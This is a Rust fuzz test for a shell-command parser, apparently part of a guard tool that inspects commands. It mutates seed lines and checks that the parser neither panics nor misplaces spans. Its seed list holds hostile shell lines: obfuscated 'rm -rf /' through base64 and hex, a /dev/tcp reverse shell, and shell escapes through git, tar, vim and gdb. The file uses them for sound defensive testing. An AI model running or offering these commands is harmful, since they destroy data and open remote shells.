//! Random lines through the reader on a stable toolchain: seeded, so that a finding can be repeated.
//!
//! `PORTCULLIS_TEST_SCALE=release` reads ten million lines; every other run some thousands.

use super::*;

/// Lines to mutate and pieces to put into them: every construct that the reader knows.
const SEEDS: [&str; 44] = [
    "cd /x && rm -rf 'a b' | tee f; (ls)",
    "if [ -f a ]; then b; elif c; then d; else e; fi",
    "for x in a {b,c} {1..9}; do echo \"$x\" ${x%.*}; done > f 2>&1",
    "case $x in a|b) ls;; *) rm $1;; esac",
    "f(){ local a=$1; shift; rm -rf \"$@\" \"${@:2}\"; }; f / b",
    "function g { f $*; }; alias x='g -a'\nx y",
    "a=(1 2 $(b)); a[3]=x; echo ${a[@]} ${a[$i]} ${#a[@]} ${!b}",
    "cat <<E | sh\nrm $x `y`\nE\n",
    "cat <<-'E' > f; bash f\n\tls\n\tE\n",
    "echo cm0gLXJmIC8= | base64 -d | bash",
    "echo 'sn' | tr sn rm | rev | cut -c1-3 | sed 's/a/b/g' | sh",
    "sudo -u x env A=1 nice -n 5 timeout 3 bash -c 'a; b $0' c",
    "find / -name '*.x' -exec sh -c 'rm {}' _ {} \\; -delete",
    "printf 'a\\0b' | xargs -0 -I{} sh -c 'x {}'",
    "parallel 'a {}' ::: 1 2; ssh -t host 'c; d'; docker run --rm -v a:b i c",
    "eval \"$(printf '\\x72m') -rf /\"; trap 'a' EXIT; . <(b)",
    "python3 -c 'import os; os.system(\"a b\"); exec(\"c\")'",
    "perl -e '`a`; system(\"b\",\"c\"); qx{d}'; node -e 'require(\"child_process\").exec(\"e\")'",
    "[[ $a == b* && ( -n $c || $d < e ) ]] || (( i++ )) && echo $((x + $(y)))",
    "read -r a b <<< \"x y\"; IFS=: read c <<< d; mapfile -t e <<< f; $a $b ${e[0]}",
    "V=-rf; rm $V \"${W:-/}\" ${X:?} ${Y:=z} ${Z/a/b} ${Q,,} ${R:1:2}",
    "$'\\x41\\101\\u00e9\\cA' $\"x\" ~/a ~user *.t?t [a-c]* @(a|b)",
    "{ a; b & c; } < f | d |& e &> g; coproc H { i; }",
    "git -c alias.x='!a' -c core.pager='b' x; GIT_SSH_COMMAND='c' git fetch",
    "tar cf a b --checkpoint-action=exec='c'; gdb -ex 'shell d'; vim -c ':!e'",
    "crontab - <<< '* * * * * a'; make -f - <<< 'a:; b'; at now <<< c; sed '1e d' f",
    "powershell -EncodedCommand YQA=; cmd /c a & b; pwsh -c \"c; d\"",
    "while read l; do echo $l; done < <(a); until b; do break; done",
    "kubectl exec p -c q -- sh -c 'r'; tmux new -d 's'; su - t -c 'u'; env -S 'v w'",
    "printf -v a '%s' b; set -- c d; declare -A m; m[k]=v; unset a; export Z=1; ${m[k]}",
    "x='a\\'b\"c'; echo \"d`e \\`f\\``g\" ; time -p h",
    "((a) ; (b)); (( (c) + 1 )); $((d)); $( (e) )",
    "awk 'BEGIN{system(\"a\")}' f; ruby -e '%x(b)'; php -r 'exec(\"c\");'",
    "exec 3<>/dev/tcp/h/1; bash -i >& /dev/tcp/h/2 0>&1; {fd}> f",
    "a\\\n b \\\r\n c; d # e\nf",
    "\0é\u{200b}\u{10ffff}",
    "$(",
    "`",
    "${",
    "<<",
    "'",
    "\"",
    "))",
    "esac }",
];

/// Small pieces that change what a line is.
const PIECES: [&str; 40] = [
    "$(", ")", "`", "'", "\"", "$'", "${", "}", "{", ",", "<<E", "\n", "E", ";", "&", "&&", "|", "||", "((",
    "))", "[", "]", "[[", "]]", "=", "\\", "..", "$", "@", "<(", ">", "<<<", " ", "f(){ ", "!", "#", "é",
    "\0", "${a[", ":",
];

struct Random(u64);

impl Random {
    fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % n.max(1) as u64).unwrap_or(0)
    }

    /// A place in the text that is no inside of a character.
    fn place(&mut self, text: &str) -> usize {
        let at = self.below(text.len() + 1);
        text.floor_char_boundary(at)
    }

    fn line(&mut self) -> String {
        let at = self.below(SEEDS.len());
        let mut line = SEEDS[at].to_owned();
        for _ in 0..self.below(6) {
            let (a, b) = (self.place(&line), self.place(&line));
            let (a, b) = (a.min(b), a.max(b).min(line.floor_char_boundary(a.min(b) + 24)));
            match self.below(6) {
                0 => drop(line.drain(a..b)),
                1 => {
                    let part = line.get(a..b).unwrap_or_default().to_owned();
                    line.insert_str(a, &part);
                }
                2 | 3 => {
                    let piece = PIECES[self.below(PIECES.len())];
                    line.insert_str(a, piece);
                }
                4 => {
                    let other = SEEDS[self.below(SEEDS.len())];
                    let (c, d) = (self.place(other), self.place(other));
                    line.insert_str(a, other.get(c.min(d)..c.max(d)).unwrap_or_default());
                }
                _ => {
                    let other = SEEDS[self.below(SEEDS.len())];
                    line.push_str([";", "|", "\n", " ", "&&"][self.below(5)]);
                    line.push_str(other);
                }
            }
        }
        line
    }
}

/// BX-02: no random line makes the reader panic; spans lie inside the line; and what a line holds is a command, an
/// opaque part, or nothing but blanks, comments and closers.
#[test]
fn bx_02_random_lines() {
    let release = std::env::var("PORTCULLIS_TEST_SCALE").is_ok_and(|s| s == "release");
    let count = if release { 10_000_000 } else { 20_000 };
    let seed = std::env::var("PORTCULLIS_TEST_SEED").ok().and_then(|s| s.parse().ok());
    let mut random = Random(seed.unwrap_or(0x5eed_1234_abcd_0001));
    let mut commands = 0usize;
    for at in 0..count {
        let line = random.line();
        let read = std::panic::catch_unwind(|| read(&line));
        let Ok(script) = read else { panic!("line {at} of this seed panics: {line:?}") };
        commands += script.commands.len();
        let inside = |span: &std::ops::Range<usize>| span.start <= span.end && span.end <= line.len();
        assert!(script.commands.iter().all(|c| inside(&c.span)), "{line:?}");
        assert!(script.opaque.iter().all(|o| inside(&o.span)), "{line:?}");
        if at % 64 == 0 {
            let tree = CommandLine::read(&line);
            assert_eq!(tree.all().count(), script.commands.len(), "{line:?}");
        }
    }
    assert!(commands > count, "random lines still hold commands");
}
